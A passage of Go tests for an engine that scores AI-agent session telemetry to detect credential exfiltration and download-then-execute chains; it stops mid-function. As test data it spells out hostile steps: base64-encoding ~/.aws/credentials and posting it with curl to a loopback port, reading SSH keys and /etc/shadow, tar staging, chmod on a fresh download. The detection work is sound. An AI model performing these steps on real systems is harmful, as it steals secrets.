package engine

import (
	"encoding/binary"
	"fmt"
	"math/rand"
	"runtime"
	"slices"
	"sync"
	"testing"
	"time"

	"github.com/agentwatch/agentwatch/internal/pathglob"
	"github.com/agentwatch/agentwatch/internal/semconv"
	"github.com/agentwatch/agentwatch/processor/agentscoreprocessor/internal/policy"
)

func testPolicy(t testing.TB) *policy.Policy {
	t.Helper()
	homes := pathglob.NewHomes(func(uid int64) (string, bool) {
		switch uid {
		case 0:
			return "/root", true
		case 1000:
			return "/home/alice", true
		case 1001:
			return "/home/bob", true
		}
		return "", false
	})
	p, err := policy.Compile([]policy.Layer{policy.InlineLayer(policy.SeedSensitivePaths, policy.SeedRiskyBinaries, policy.SeedAllowedDestinations, nil, nil)},
		policy.Options{SystemResolvers: []string{"127.0.0.53"}, Homes: homes, ModelProviders: policy.DefaultModelProviders})
	if err != nil {
		t.Fatal(err)
	}
	return p
}

type fakeClock struct{ t time.Time }

func (c *fakeClock) now() time.Time { return c.t }

func newEngine(t testing.TB, mutate ...func(*Settings)) (*Engine, *fakeClock) {
	clock := &fakeClock{t: time.Unix(1_700_000_000, 0)}
	s := Settings{
		Policy: testPolicy(t), AlertThreshold: 70, ChainWindow: 10 * time.Minute, MaxUniqueDestinations: 10,
		MaxSessions: 100, SessionTTL: time.Hour, TrackSpans: true, Now: clock.now,
	}
	for _, m := range mutate {
		m(&s)
	}
	return New(s), clock
}

func sess(n byte) SessionKey { return SessionKey{n, 0xaa} }

// at turns seconds into an event timestamp.
func at(sec float64) int64 {
	return time.Unix(1_700_000_000, 0).Add(time.Duration(sec * float64(time.Second))).UnixNano()
}

func execEv(s SessionKey, pid int64, ts int64, uid int64, cwd string, args ...string) *Event {
	exe := args[0]
	if exe[0] != '/' {
		exe = "/usr/bin/" + exe
	}
	return &Event{Kind: KindExec, Session: s, Span: spanOf(pid), Time: ts, PID: pid, HasPID: true, UID: uid, HasUID: true, Cwd: cwd, Exe: exe, Args: args, PeerResolved: -1}
}

func openEv(s SessionKey, pid int64, ts int64, exe, path, flags string) *Event {
	return &Event{Kind: KindFileOpen, Session: s, Span: spanOf(pid), Time: ts, PID: pid, HasPID: true, Exe: exe, Path: path, Flags: flags, PeerResolved: -1}
}

func connectEv(s SessionKey, pid int64, ts int64, addr string, port int64) *Event {
	return &Event{Kind: KindConnect, Session: s, Span: spanOf(pid), Time: ts, PID: pid, HasPID: true, PeerAddr: addr, Port: port, PeerResolved: -1}
}

func dnsEv(s SessionKey, pid int64, ts int64, name, resolver string, answers ...string) *Event {
	return &Event{Kind: KindDNS, Session: s, Span: spanOf(pid), Time: ts, PID: pid, HasPID: true, DNSName: name, Resolver: resolver, DNSAnswers: answers, PeerResolved: -1}
}

func spanOf(pid int64) SpanKey {
	var k SpanKey
	binary.BigEndian.PutUint64(k[:], uint64(pid))
	return k
}

func ruleIDs(e *Engine, rs policy.RuleSet) []string {
	var out []string
	rs.Each(func(i int) { out = append(out, e.Policy().Rule(i).ID) })
	return out
}

func has(e *Engine, r Result, id string) bool { return slices.Contains(ruleIDs(e, r.Rules), id) }

// TestExfiltrationScenario is the end-to-end scenario of the distribution:
// a fake ~/.aws/credentials is base64-encoded and posted with curl to a
// loopback listener on a non-standard port.
func TestExfiltrationScenario(t *testing.T) {
	e, _ := newEngine(t)
	s := sess(1)
	agent := execEv(s, 100, at(0), 0, "/root/proj", "python3", "agent.py")
	if r := e.Score(agent); r.Score != 0 {
		t.Fatalf("the agent itself scores %d: %v", r.Score, ruleIDs(e, r.Rules))
	}
	enc := e.Score(execEv(s, 101, at(1), 0, "/root/proj", "base64", "/root/.aws/credentials"))
	if !has(e, enc, "argv.encode_sensitive") || enc.Score != 75 || !enc.Alert {
		t.Fatalf("encode: %+v %v", enc, ruleIDs(e, enc.Rules))
	}
	read := e.Score(&Event{Kind: KindFileOpen, Session: s, Time: at(1.1), PID: 101, HasPID: true, Exe: "/usr/bin/base64", Path: "/root/.aws/credentials", Flags: "O_RDONLY", Result: 3, HasResult: true, PeerResolved: -1})
	if !has(e, read, "file.cloud_credentials") || has(e, read, "chain.exfiltration") {
		t.Fatalf("read: %v", ruleIDs(e, read.Rules))
	}
	post := e.Score(execEv(s, 102, at(2), 0, "/root/proj", "curl", "--data-binary", "@/tmp/creds.b64", "http://127.0.0.1:38081/"))
	if !has(e, post, "chain.exfiltration") || post.Score != 95 || LevelOf(post.Score) != semconv.LevelCritical || !post.Alert {
		t.Fatalf("post: score %d %v", post.Score, ruleIDs(e, post.Rules))
	}
	conn := e.Score(connectEv(s, 102, at(2.1), "127.0.0.1", 38081))
	for _, id := range []string{"net.destination_not_allowed", "net.unresolved_ip", "net.non_standard_port", "chain.exfiltration"} {
		if !has(e, conn, id) {
			t.Errorf("connect lacks %s: %v", id, ruleIDs(e, conn.Rules))
		}
	}
	sr := e.SessionRollup(s)
	if sr.Max != 95 || sr.Alerts != 4 {
		t.Fatalf("session rollup %+v", sr)
	}
}

type step struct {
	kind string // read, stage, egress, noise
	ts   float64
}

func (st step) event(s SessionKey) *Event {
	switch st.kind {
	case "read":
		ev := openEv(s, 10, at(st.ts), "/usr/bin/cat", "/root/.ssh/id_rsa", "O_RDONLY")
		ev.UID, ev.HasUID = 0, true
		return ev
	case "stage":
		return execEv(s, 11, at(st.ts), 0, "/root", "tar", "czf", "/tmp/a.tgz", "/tmp/stuff")
	case "egress":
		return connectEv(s, 12, at(st.ts), "198.51.100.7", 443)
	}
	return openEv(s, 13, at(st.ts), "/usr/bin/cat", "/root/proj/README.md", "O_RDONLY")
}

// TestChainOrders delivers the three steps in every arrival order: the
// chain is found exactly once, on whichever step arrives last.
func TestChainOrders(t *testing.T) {
	steps := []step{{"read", 1}, {"stage", 2}, {"egress", 3}}
	for _, perm := range [][]int{{0, 1, 2}, {0, 2, 1}, {1, 0, 2}, {1, 2, 0}, {2, 0, 1}, {2, 1, 0}} {
		t.Run(fmt.Sprint(perm), func(t *testing.T) {
			e, _ := newEngine(t)
			e.Score(execEv(sess(1), 1, at(0), 0, "/root/proj", "agent"))
			for n, i := range perm {
				r := e.Score(steps[i].event(sess(1)))
				chained := has(e, r, "chain.exfiltration")
				if chained != (n == 2) {
					t.Fatalf("arrival %d (%s): chain=%v", n, steps[i].kind, chained)
				}
			}
		})
	}
}

func TestChainConditions(t *testing.T) {
	tests := []struct {
		name  string
		steps []step
		want  bool
	}{
		{"in order", []step{{"read", 1}, {"stage", 2}, {"egress", 3}}, true},
		{"stage before read (encoder reads after it starts)", []step{{"stage", 1}, {"read", 2}, {"egress", 3}}, true},
		{"egress first in time", []step{{"egress", 1}, {"read", 2}, {"stage", 3}}, false},
		{"egress between", []step{{"read", 1}, {"egress", 2}, {"stage", 3}}, false},
		{"no stage", []step{{"read", 1}, {"noise", 2}, {"egress", 3}}, false},
		{"no read", []step{{"noise", 1}, {"stage", 2}, {"egress", 3}}, false},
		{"within the window", []step{{"read", 0}, {"stage", 60}, {"egress", 599}}, true},
		{"outside the window", []step{{"read", 0}, {"stage", 60}, {"egress", 601}}, false},
		{"same instant", []step{{"read", 5}, {"stage", 5}, {"egress", 5}}, true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			e, _ := newEngine(t)
			e.Score(execEv(sess(1), 1, at(0), 0, "/root/proj", "agent"))
			fired := false
			for _, st := range tt.steps {
				fired = has(e, e.Score(st.event(sess(1))), "chain.exfiltration") || fired
			}
			if fired != tt.want {
				t.Fatalf("chain fired = %v, want %v", fired, tt.want)
			}
		})
	}
}

// TestChainInterleavedSessions mixes the events of many sessions, with
// arrival order shuffled within a few seconds: each complete session fires
// once, incomplete ones and cross-session combinations never do.
func TestChainInterleavedSessions(t *testing.T) {
	rng := rand.New(rand.NewSource(7))
	for round := 0; round < 20; round++ {
		e, _ := newEngine(t)
		type arrival struct {
			s    SessionKey
			st   step
			sort float64
		}
		var all []arrival
		complete := map[SessionKey]bool{}
		for n := 0; n < 12; n++ {
			s := sess(byte(n + 1))
			base := float64(n) * 2
			e.Score(execEv(s, 1, at(base-1), 0, "/root/proj", "agent"))
			kinds := []string{"read", "stage", "egress"}
			switch n % 4 {
			case 1:
				kinds = []string{"read", "noise", "egress"} // one step missing
			case 2:
				kinds = []string{"read", "stage"} // no egress; another session's egress must not count
			}
			complete[s] = n%4 == 0 || n%4 == 3
			for i, k := range kinds {
				ts := base + float64(i)*0.5
				// Arrival jitter of up to 3 s reorders steps within and across sessions.
				all = append(all, arrival{s, step{k, ts}, ts + rng.Float64()*3})
			}
		}
		slices.SortFunc(all, func(a, b arrival) int {
			switch {
			case a.sort < b.sort:
				return -1
			case a.sort > b.sort:
				return 1
			}
			return 0
		})
		fired := map[SessionKey]int{}
		for _, a := range all {
			if has(e, e.Score(a.st.event(a.s)), "chain.exfiltration") {
				fired[a.s]++
			}
		}
		for s, c := range complete {
			want := 0
			if c {
				want = 1
			}
			if fired[s] != want {
				t.Fatalf("round %d session %x: fired %d times, want %d", round, s[0], fired[s], want)
			}
		}
	}
}

func TestChainWindowSetting(t *testing.T) {
	e, _ := newEngine(t, func(s *Settings) { s.ChainWindow = 5 * time.Second })
	e.Score(step{"read", 0}.event(sess(1)))
	e.Score(step{"stage", 1}.event(sess(1)))
	if has(e, e.Score(step{"egress", 6}.event(sess(1))), "chain.exfiltration") {
		t.Fatal("egress 6 s after the read is outside a 5 s window")
	}
	if !has(e, e.Score(step{"egress", 4}.event(sess(1))), "chain.exfiltration") {
		t.Fatal("egress 4 s after the read is inside a 5 s window")
	}
}

func TestDNSTunnelIsEgress(t *testing.T) {
	e, _ := newEngine(t)
	e.Score(step{"read", 1}.event(sess(1)))
	e.Score(step{"stage", 2}.event(sess(1)))
	r := e.Score(dnsEv(sess(1), 5, at(3), "mfrggzdfmztwq2lknnwg23tpobyxe43u.x.example", "127.0.0.53"))
	if !has(e, r, "dns.high_entropy_label") || !has(e, r, "chain.exfiltration") {
		t.Fatalf("%v", ruleIDs(e, r.Rules))
	}
}

func TestUnresolvedIP(t *testing.T) {
	e, _ := newEngine(t)
	s := sess(1)
	e.Score(dnsEv(s, 5, at(1), "Example.COM.", "127.0.0.53", "93.184.216.34", "example.com.cdn.net", "2606:2800:220:1::1"))
	r := e.Score(connectEv(s, 5, at(2), "93.184.216.34", 443))
	if has(e, r, "net.unresolved_ip") || !has(e, r, "net.destination_not_allowed") {
		t.Fatalf("resolved address: %v", ruleIDs(e, r.Rules))
	}
	r = e.Score(connectEv(s, 5, at(2), "2606:2800:220:1::1", 443))
	if has(e, r, "net.unresolved_ip") {
		t.Fatalf("resolved v6 address: %v", ruleIDs(e, r.Rules))
	}
	r = e.Score(connectEv(s, 5, at(3), "::ffff:93.184.216.34", 443))
	if has(e, r, "net.unresolved_ip") {
		t.Fatalf("v4-mapped form of a resolved address: %v", ruleIDs(e, r.Rules))
	}
	r = e.Score(connectEv(s, 5, at(3), "93.184.216.35", 443))
	if !has(e, r, "net.unresolved_ip") {
		t.Fatalf("unresolved address: %v", ruleIDs(e, r.Rules))
	}
	// Another session's answers do not count.
	r = e.Score(connectEv(sess(2), 5, at(3), "93.184.216.34", 443))
	if !has(e, r, "net.unresolved_ip") {
		t.Fatalf("answers leak across sessions: %v", ruleIDs(e, r.Rules))
	}
	// The receiver's verdict wins over the engine's own record.
	ev := connectEv(s, 5, at(4), "93.184.216.34", 443)
	ev.PeerResolved = 0
	if r = e.Score(ev); !has(e, r, "net.unresolved_ip") {
		t.Fatal("agent.net.peer_resolved=false must be trusted")
	}
	ev = connectEv(sess(3), 5, at(4), "10.9.9.9", 443)
	ev.PeerResolved = 1
	if r = e.Score(ev); has(e, r, "net.unresolved_ip") {
		t.Fatal("agent.net.peer_resolved=true must be trusted")
	}
	ev = connectEv(sess(4), 5, at(4), "10.9.9.9", 443)
	ev.ServerAddr = "internal.example"
	if r = e.Score(ev); has(e, r, "net.unresolved_ip") {
		t.Fatal("a server.address means the session resolved the name")
	}
	// An allowed destination is not flagged, whether resolved or not.
	ev = connectEv(sess(5), 5, at(4), "160.79.104.10", 443)
	ev.ServerAddr = "api.anthropic.com"
	if r = e.Score(ev); r.Score != 0 {
		t.Fatalf("allowed destination scored: %v", ruleIDs(e, r.Rules))
	}
}

func TestAllowedByRecordedName(t *testing.T) {
	e, _ := newEngine(t)
	e.Score(dnsEv(sess(1), 5, at(1), "api.github.com", "127.0.0.53", "140.82.112.6"))
	if r := e.Score(connectEv(sess(1), 5, at(2), "140.82.112.6", 443)); r.Score != 0 {
		t.Fatalf("the name the session resolved makes it allowed: %v", ruleIDs(e, r.Rules))
	}
}

func TestResolverPlumbingIsNotScored(t *testing.T) {
	e, _ := newEngine(t)
	if r := e.Score(connectEv(sess(1), 5, at(1), "127.0.0.53", 53)); r.Score != 0 {
		t.Fatalf("connect to the system resolver: %v", ruleIDs(e, r.Rules))
	}
	if r := e.Score(connectEv(sess(1), 5, at(1), "8.8.8.8", 53)); !has(e, r, "net.destination_not_allowed") {
		t.Fatalf("connect to another resolver is a destination: %v", ruleIDs(e, r.Rules))
	}
	if r := e.Score(connectEv(sess(1), 5, at(1), "/run/x.sock", 0)); r.Score != 0 {
		t.Fatal("a unix socket has no address to score")
	}
	if r := e.Score(dnsEv(sess(1), 5, at(1), "api.openai.com", "1.1.1.1")); !has(e, r, "dns.foreign_resolver") {
		t.Fatal("query to a foreign resolver")
	}
}

func TestManyDestinations(t *testing.T) {
	e, _ := newEngine(t, func(s *Settings) { s.MaxUniqueDestinations = 3 })
	s := sess(1)
	for i := 1; i <= 3; i++ {
		if r := e.Score(connectEv(s, 5, at(float64(i)), fmt.Sprintf("198.51.100.%d", i), 443)); has(e, r, "net.many_destinations") {
			t.Fatalf("destination %d of 3", i)
		}
	}
	if r := e.Score(connectEv(s, 5, at(4), "198.51.100.1", 443)); has(e, r, "net.many_destinations") {
		t.Fatal("a repeated destination is not new")
	}
	if r := e.Score(connectEv(s, 5, at(5), "198.51.100.4", 443)); !has(e, r, "net.many_destinations") {
		t.Fatal("the fourth unique destination")
	}
	if r := e.Score(connectEv(sess(2), 5, at(5), "198.51.100.4", 443)); has(e, r, "net.many_destinations") {
		t.Fatal("counts are per session")
	}
}

func TestDownloadExec(t *testing.T) {
	e, _ := newEngine(t)
	s := sess(1)
	e.Score(openEv(s, 7, at(1), "/usr/bin/curl", "/tmp/payload", "O_WRONLY|O_CREAT|O_TRUNC"))
	r := e.Score(execEv(s, 8, at(2), 0, "/tmp", "chmod", "+x", "payload"))
	if !has(e, r, "chain.download_exec") || !has(e, r, "argv.chmod_exec") {
		t.Fatalf("chmod of a fresh download: %v", ruleIDs(e, r.Rules))
	}
	r = e.Score(execEv(s, 9, at(3), 0, "/tmp", "/tmp/payload"))
	if !has(e, r, "chain.download_exec") {
		t.Fatalf("running a fresh download: %v", ruleIDs(e, r.Rules))
	}
	// A file an editor wrote is not a download.
	e.Score(openEv(s, 7, at(4), "/usr/bin/vim", "/tmp/script.sh", "O_WRONLY|O_CREAT"))
	if r = e.Score(execEv(s, 8, at(5), 0, "/tmp", "chmod", "+x", "script.sh")); has(e, r, "chain.download_exec") {
		t.Fatal("editor write")
	}
	// Out of order: the chmod arrives before the write that preceded it.
	s2 := sess(2)
	e.Score(execEv(s2, 8, at(2), 0, "/tmp", "chmod", "755", "/tmp/x"))
	if r = e.Score(openEv(s2, 7, at(1), "/usr/bin/wget", "/tmp/x", "O_WRONLY|O_CREAT")); !has(e, r, "chain.download_exec") {
		t.Fatalf("late download write: %v", ruleIDs(e, r.Rules))
	}
	// A chmod before the download does not make it executable.
	s3 := sess(3)
	e.Score(execEv(s3, 8, at(1), 0, "/tmp", "chmod", "+x", "/tmp/y"))
	if r = e.Score(openEv(s3, 7, at(2), "/usr/bin/curl", "/tmp/y", "O_WRONLY|O_CREAT")); has(e, r, "chain.download_exec") {
		t.Fatal("download after chmod")
	}
}

// TestHomeResolution covers "~" for two users, the fallbacks when an event
// lacks process.user.id, and ".." in paths.
func TestHomeResolution(t *testing.T) {
	e, _ := newEngine(t)
	alice, bob := sess(1), sess(2)
	e.Score(execEv(alice, 1, at(0), 1000, "/home/alice/proj", "agent"))
	e.Score(execEv(bob, 1, at(0), 1001, "/home/bob/proj", "agent"))

	ev := openEv(alice, 1, at(1), "/usr/bin/cat", "/home/alice/.ssh/id_rsa", "O_RDONLY")
	ev.UID, ev.HasUID = 1000, true
	if r := e.Score(ev); !has(e, r, "file.ssh_key") {
		t.Fatal("alice reads her key")
	}
	ev = openEv(bob, 1, at(1), "/usr/bin/cat", "/home/alice/.ssh/id_rsa", "O_RDONLY")
	ev.UID, ev.HasUID = 1001, true
	if r := e.Score(ev); has(e, r, "file.ssh_key") {
		t.Fatal("~ is bob's home in bob's session")
	}
	ev = openEv(bob, 1, at(1), "/usr/bin/cat", "/home/bob/.ssh/id_rsa", "O_RDONLY")
	if r := e.Score(ev); !has(e, r, "file.ssh_key") {
		t.Fatal("no uid on the event: the exec of pid 1 said bob")
	}
	ev = openEv(bob, 99, at(1), "/usr/bin/cat", "/home/bob/.kube/config", "O_RDONLY")
	if r := e.Score(ev); !has(e, r, "file.kube") {
		t.Fatal("unknown pid: the session user is bob")
	}
	ev = openEv(alice, 1, at(1), "/usr/bin/cat", "/home/alice/proj/../.aws/credentials", "O_RDONLY")
	if r := e.Score(ev); !has(e, r, "file.cloud_credentials") {
		t.Fatal("paths with .. are normalised")
	}
	ev = openEv(alice, 1, at(1), "/usr/bin/cat", "../.gnupg/pubring.kbx", "O_RDONLY")
	if r := e.Score(ev); !has(e, r, "file.gnupg") {
		t.Fatal("a relative path resolves against the process's cwd")
	}
	// sudo: root's files read in alice's session.
	ev = openEv(alice, 2, at(2), "/usr/bin/cat", "/root/.ssh/id_rsa", "O_RDONLY")
	ev.UID, ev.HasUID = 0, true
	if r := e.Score(ev); !has(e, r, "file.ssh_key") {
		t.Fatal("root's home for a root process")
	}
	// A session the engine knows nothing about: no "~" matching, "**" still.
	ev = openEv(sess(9), 1, at(1), "/usr/bin/cat", "/root/.ssh/id_rsa", "O_RDONLY")
	if r := e.Score(ev); r.Score != 0 {
		t.Fatal("no uid anywhere: ~ matches nothing")
	}
	ev = openEv(sess(9), 1, at(1), "/usr/bin/cat", "/srv/.env", "O_RDONLY")
	if r := e.Score(ev); !has(e, r, "file.dotenv") {
		t.Fatal("** patterns need no home")
	}
}

func TestWorkdirIsTheSessions(t *testing.T) {
	e, _ := newEngine(t)
	s := sess(1)
	e.Score(execEv(s, 1, at(0), 1000, "/home/alice/.kube", "agent"))
	ev := openEv(s, 1, at(1), "/usr/bin/cat", "/home/alice/.kube/config", "O_RDONLY")
	ev.UID, ev.HasUID = 1000, true
	if r := e.Score(ev); r.Score != 0 {
		t.Fatalf("the agent works in ~/.kube: %v", ruleIDs(e, r.Rules))
	}
	// A child that changes directory does not move the session's workdir.
	e.Score(execEv(s, 2, at(2), 1000, "/home/alice/.ssh", "cat", "id_rsa"))
	ev = openEv(s, 2, at(2.1), "/usr/bin/cat", "id_rsa", "O_RDONLY")
	if r := e.Score(ev); !has(e, r, "file.ssh_key") {
		t.Fatal("cd ~/.ssh in a child must not exempt it")
	}
	// An earlier exec (by timestamp) arriving late is the real root.
	e.Score(execEv(s, 3, at(-5), 1000, "/home/alice/proj", "agent-launcher"))
	ev = openEv(s, 1, at(3), "/usr/bin/cat", "/home/alice/.kube/config", "O_RDONLY")
	if r := e.Score(ev); !has(e, r, "file.kube") {
		t.Fatal("the earliest exec defines the workdir")
	}
}

func TestFailedOpenIsScoredButReadsNothing(t *testing.T) {
	e, _ := newEngine(t)
	s := sess(1)
	ev := openEv(s, 1, at(1), "/usr/bin/cat", "/etc/shadow", "O_RDONLY")
	ev.Result, ev.HasResult = -13, true
	if r := e.Score(ev); !has(e, r, "file.shadow") {
		t.Fatal("an attempt is scored")
	}
	e.Score(step{"stage", 2}.event(s))
	if r := e.Score(step{"egress", 3}.event(s)); has(e, r, "chain.exfiltration") {
		t.Fatal("a failed open read nothing")
	}
	ev = openEv(s, 1, at(4), "/usr/bin/tee", "/root/.ssh/authorized_keys", "O_WRONLY|O_APPEND")
	ev.UID, ev.HasUID = 0, true
	if r := e.Score(ev); !has(e, r, "file.ssh_key") {
		t.Fatal("writing into ~/.ssh is scored")
	}
	if r := e.Score(step{"egress", 5}.event(s)); has(e, r, "chain.exfiltration") {
		t.Fatal("a write is not a read")
	}
}

func TestEnforcement(t *testing.T) {
	e, _ := newEngine(t)
	ev := &Event{Kind: KindEnforce, Session: sess(1), Time: at(1), EnforceAction: "deny", Path: "/srv/app/.env", PeerResolved: -1}
	r := e.Score(ev)
	if !has(e, r, "enforce.denied") || !has(e, r, "file.dotenv") || r.Score < 70 || !r.Alert {
		t.Fatalf("denial: %d %v", r.Score, ruleIDs(e, r.Rules))
	}
	ev = &Event{Kind: KindEnforce, Session: sess(1), Time: at(1), EnforceAction: "DENIED", PeerAddr: "203.0.113.9", Port: 4444, PeerResolved: -1}
	if r = e.Score(ev); !has(e, r, "enforce.denied") || !has(e, r, "net.non_standard_port") {
		t.Fatalf("denied connect: %v", ruleIDs(e, r.Rules))
	}
	ev = &Event{Kind: KindEnforce, Session: sess(1), Time: at(1), EnforceAction: "audit", PeerResolved: -1}
	if r = e.Score(ev); !has(e, r, "enforce.action") || has(e, r, "enforce.denied") {
		t.Fatalf("audit: %v", ruleIDs(e, r.Rules))
	}
	// A denied read does not feed chains.
	e.Score(&Event{Kind: KindEnforce, Session: sess(2), Time: at(1), EnforceAction: "deny", Path: "/root/.ssh/id_rsa", PeerResolved: -1})
	e.Score(step{"stage", 2}.event(sess(2)))
	if r = e.Score(step{"egress", 3}.event(sess(2))); has(e, r, "chain.exfiltration") {
		t.Fatal("denied read in a chain")
	}
}

func TestLevelsAndAlerts(t *testing.T) {
	for score, want := range map[int]string{0: "none", 1: "low", 39: "low", 40: "medium", 69: "medium", 70: "high", 89: "high", 90: "critical", 100: "critical"} {
		if got := LevelOf(score); got != want {
			t.Errorf("LevelOf(%d) = %s, want %s", score, got, want)
		}
		if Levels[LevelIndex(score)] != want {
			t.Errorf("LevelIndex(%d) disagrees", score)
		}
	}
	e, _ := newEngine(t, func(s *Settings) { s.AlertThreshold = 80 })
	ev := openEv(sess(1), 1, at(1), "/usr/bin/cat", "/root/.ssh/id_rsa", "O_RDONLY")
	ev.UID, ev.HasUID = 0, true
	if r := e.Score(ev); r.Score != 80 || !r.Alert {
		t.Fatalf("score == threshold alerts: %+v", r)
	}
	ev.Path = "/root/.kube/config"
	if r := e.Score(ev); r.Score != 75 || r.Alert {
		t.Fatalf("below threshold: %+v", r)
	}
	e, _ = newEngine(t, func(s *Settings) { s.AlertThreshold = 0 })
	if r := e.Score(openEv(sess(1), 1, at(1), "/usr/bin/cat", "/tmp/x", "O_RDONLY")); r.Alert || r.Top != -1 {
		t.Fatalf("threshold 0 still never alerts on score 0: %+v", r)
	}
	if r := e.Score(execEv(sess(1), 1, at(1), 0, "/", "chmod", "600", "x")); !r.Alert {
		t.Fatal("threshold 0 alerts on any match")
	}
}

func TestRollups(t *testing.T) {
	e, _ := newEngine(t)
	s := sess(1)
	e.Score(execEv(s, 1, at(0), 0, "/root/proj", "agent"))
	e.Score(execEv(s, 2, at(1), 0, "/root/proj", "curl", "https://example.com"))
	ev := openEv(s, 2, at(2), "/usr/bin/curl", "/root/.ssh/id_rsa", "O_RDONLY")
	ev.UID, ev.HasUID = 0, true
	e.Score(ev)
	e.Score(execEv(s, 3, at(3), 0, "/root/proj", "ls"))

	r := e.SpanRollup(s, spanOf(2))
	if r.Max != 80 || r.Alerts != 1 || !slices.Equal(ruleIDs(e, r.Rules), []string{"file.ssh_key", "binary.transfer"}) {
		t.Fatalf("span 2: %+v %v", r, ruleIDs(e, r.Rules))
	}
	if again := e.SpanRollup(s, spanOf(2)); again.Max != 0 {
		t.Fatal("a span's rollup is handed out once")
	}
	if r := e.SpanRollup(s, spanOf(3)); r.Max != 0 || !r.Rules.Empty() {
		t.Fatalf("span 3: %+v", r)
	}
	if r := e.SessionRollup(s); r.Max != 80 || r.Alerts != 1 {
		t.Fatalf("session: %+v", r)
	}
	if r := e.SessionRollup(sess(42)); r.Max != 0 {
		t.Fatal("unknown session")
	}

	e2, _ := newEngine(t, func(st *Settings) { st.TrackSpans = false })
	e2.Score(ev)
	if r := e2.SpanRollup(s, spanOf(2)); r.Max != 0 {
		t.Fatal("span rollups are off without a traces pipeline")
	}
	if r := e2.SessionRollup(s); r.Max != 80 {
		t.Fatal("the session rollup is kept regardless")
	}
}

func TestSessionLRUAndTTL(t *testing.T) {
	e, clock := newEngine(t, func(s *Settings) { s.MaxSessions = 2; s.SessionTTL = time.Minute })
	e.Score(step{"read", 1}.event(sess(1)))
	e.Score(step{"read", 1}.event(sess(2)))
	e.Score(step{"stage", 2}.event(sess(1))) // session 1 is now the most recent
	e.Score(step{"read", 1}.event(sess(3)))  // evicts session 2
	if st := e.Stats(); st.Sessions != 2 || st.EvictedLRU != 1 {
		t.Fatalf("stats %+v", st)
	}
	if r := e.Score(step{"egress", 3}.event(sess(1))); !has(e, r, "chain.exfiltration") {
		t.Fatal("session 1 must have survived")
	}
	if r := e.SessionRollup(sess(2)); r.Max != 0 {
		t.Fatal("session 2 must be gone")
	}
	clock.t = clock.t.Add(2 * time.Minute)
	if r := e.Score(step{"egress", 4}.event(sess(1))); has(e, r, "chain.exfiltration") {
		t.Fatal("the idle session expired, and its steps with it")
	}
	if st := e.Stats(); st.EvictedTTL != 2 || st.Sessions != 1 {
		t.Fatalf("stats after TTL %+v", st)
	}
}

func TestConcurrentUse(t *testing.T) {
	e, _ := newEngine(t)
	var wg sync.WaitGroup
	for g := 0; g < 4; g++ {
		wg.Add(1)
		go func(g int) {
			defer wg.Done()
			for i := 0; i < 500; i++ {
				s := sess(byte(g*10 + i%5))
				e.Score(step{[]string{"read", "stage", "egress", "noise"}[i%4], float64(i)}.event(s))
				e.SpanRollup(s, SpanKey{byte(i)})
				e.SessionRollup(s)
			}
		}(g)
	}
	wg.Wait()
}

// TestSessionMemoryBound fills sessions to every per-session cap and checks
// the heap they hold against the bound README.md documents.
func TestSessionMemoryBound(t *testing.T) {
	const sessions = 20
	e, _ := newEngine(t, func(s *Settings) { s.MaxSessions = sessions })
	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	for n := 0; n < sessions; n++ {
		s := SessionKey{byte(n), byte(n >> 8), 1}
		for i := 0; i < maxProcs; i++ {
			e.Score(execEv(s, int64(1000+i), at(float64(i)), 1000, fmt.Sprintf("/home/alice/projects/some-repository/sub/dir/%04d", i), "true"))
		}
		for i := 0; i < maxDNSAddrs; i++ {
			e.Score(dnsEv(s, 5, at(1), fmt.Sprintf("host-%04d.cdn.example-provider.net", i), "127.0.0.53", fmt.Sprintf("10.%d.%d.1", i/256, i%256)))
		}
		for i := 0; i < minDestCap+10; i++ {
			e.Score(connectEv(s, int64(i%300), at(2), fmt.Sprintf("172.16.%d.%d", i/256, i%256), 443))
		}
		for i := 0; i < maxSpans; i++ {
			e.Score(openEv(s, int64(5000+i), at(5), "/usr/bin/cat", "/root/.kube/config", "O_RDONLY"))
		}
		for i := 0; i < ringSize*2; i++ {
			e.Score(step{"read", 3}.event(s))
			e.Score(openEv(s, 7, at(4), "/usr/bin/curl", fmt.Sprintf("/tmp/downloads/file-%04d.bin", i), "O_WRONLY|O_CREAT"))
		}
	}
	runtime.GC()
	runtime.ReadMemStats(&after)
	perSession := (float64(after.HeapAlloc) - float64(before.HeapAlloc)) / sessions
	t.Logf("a session filled to every cap holds about %.0f KiB", perSession/1024)
	// README.md states "about 200 KiB" as the worst case per session.
	if perSession > 200*1024 {
		t.Fatalf("a full session holds %.0f KiB, more than the documented 200 KiB", perSession/1024)
	}
	if st := e.Stats(); st.Sessions != sessions {
		t.Fatalf("sessions %d", st.Sessions)
	}
}

// TestTypicalSessionMemory measures a session of ordinary size: 60
// processes in two directories, 40 DNS answers, 12 destinations and the
// pending spans of its live processes.
func TestTypicalSessionMemory(t *testing.T) {
	const sessions = 50
	e, _ := newEngine(t, func(s *Settings) { s.MaxSessions = sessions })
	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	for n := 0; n < sessions; n++ {
		s := SessionKey{byte(n), 2}
		for i := 0; i < 60; i++ {
			cwd := "/home/alice/projects/app"
			if i%3 == 0 {
				cwd = "/home/alice/projects/app/web"
			}
			e.Score(execEv(s, int64(100+i), at(float64(i)), 1000, cwd, "node", "script.js"))
			e.Score(openEv(s, int64(100+i), at(float64(i)), "/usr/bin/node", "/home/alice/projects/app/src/index.ts", "O_RDONLY"))
		}
		for i := 0; i < 40; i++ {
			e.Score(dnsEv(s, 100, at(1), fmt.Sprintf("h%d.example.net", i), "127.0.0.53", fmt.Sprintf("10.1.%d.1", i)))
		}
		for i := 0; i < 12; i++ {
			e.Score(connectEv(s, 100, at(2), fmt.Sprintf("10.1.%d.1", i), 443))
		}
	}
	runtime.GC()
	runtime.ReadMemStats(&after)
	runtime.KeepAlive(e)
	perSession := (float64(after.HeapAlloc) - float64(before.HeapAlloc)) / sessions
	t.Logf("a typical session holds about %.1f KiB", perSession/1024)
	if perSession > 48*1024 {
		t.Fatalf("a typical session holds %.0f KiB", perSession/1024)
	}
}

// One process that reads a credential and sends to a destination that is
// not allowed is an exfiltration chain without a staging step, in either
// order; two processes without one are not, nor is one that only talks to
// an allowed host.
func TestChainInsideOneProcess(t *testing.T) {
	read := func(pid int64, ts float64) *Event {
		ev := openEv(sess(1), pid, at(ts), "/usr/bin/python3", "/root/.ssh/id_ed25519", "O_RDONLY")
		ev.UID, ev.HasUID = 0, true
		return ev
	}
	for _, tt := range []struct {
